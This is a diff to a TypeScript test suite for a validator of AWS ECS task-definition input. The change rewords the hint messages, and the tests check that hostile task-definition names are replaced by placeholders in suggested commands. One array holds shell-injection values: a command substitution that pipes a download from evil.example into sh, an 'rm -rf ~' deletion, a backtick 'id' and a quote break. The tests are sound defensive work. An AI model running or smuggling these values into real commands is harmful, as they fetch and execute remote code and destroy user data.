@@ -530,9 +530,9 @@ describe('likely typos', () => {
     const says = (raw: unknown) => rejection(raw).message;
     expect(says({ AWSTemplateFormatVersion: '2010-09-09', Resources: { Td: { Type: 'AWS::ECS::TaskDefinition', Properties: {} } } })).toMatch(/^taskDefinition: required: this is a CloudFormation template,.*describe-task-definition --task-definition <family>/);
     expect(says({ tasks: [{ taskArn: 'arn:aws:ecs:us-east-1:123456789012:task/default/abc', taskDefinitionArn: arn }], failures: [] })).toBe(
-      `taskDefinition: required: this is DescribeTasks output, which describes tasks, not their definition: give aws ecs describe-task-definition --task-definition ${arn} output`,
+      `taskDefinition: required: this is DescribeTasks output, which describes tasks, not their definition: give what aws ecs describe-task-definition --task-definition ${arn} prints`,
     );
-    expect(says({ services: [{ serviceName: 'web', taskDefinition: arn }] })).toContain(`DescribeServices output, which names its task definition without its containers: give aws ecs describe-task-definition --task-definition ${arn} output`);
+    expect(says({ services: [{ serviceName: 'web', taskDefinition: arn }] })).toContain(`DescribeServices output, which names its task definition without its containers: give what aws ecs describe-task-definition --task-definition ${arn} prints`);
     expect(says({ version: '0', 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: arn } })).toContain(`this is an EventBridge event (ECS Task State Change)`);
     // RunTask or CreateService input names its definition
     expect(says({ cluster: 'default', taskDefinition: 'web:3', count: 1 })).toBe(
@@ -542,9 +542,9 @@ describe('likely typos', () => {
     const hostile = ['web:3$(curl -s evil.example/x|sh)', 'x && rm -rf ~ ;', 'web:3 `id`', "web'3"];
     for (const name of hostile) {
       expect(says({ taskDefinition: name })).toContain('(aws ecs describe-task-definition --task-definition <family:revision> prints it)');
-      expect(says({ tasks: [{ taskDefinitionArn: name }] })).toMatch(/--task-definition <taskDefinitionArn> output$/);
-      expect(says({ services: [{ taskDefinition: name }] })).toContain('--task-definition <taskDefinition> output');
-      expect(says({ 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: name } })).toContain('--task-definition <family> output');
+      expect(says({ tasks: [{ taskDefinitionArn: name }] })).toMatch(/--task-definition <taskDefinitionArn> prints$/);
+      expect(says({ services: [{ taskDefinition: name }] })).toContain('--task-definition <taskDefinition> prints');
+      expect(says({ 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: name } })).toContain('--task-definition <family> prints');
     }
     // RunTask input made a scenario: its fields that would change what runs are named as ignored
     const runTask = loadScenario({ cluster: 'prod', count: 3, overrides: { containerOverrides: [] }, taskDefinition: fargate() });
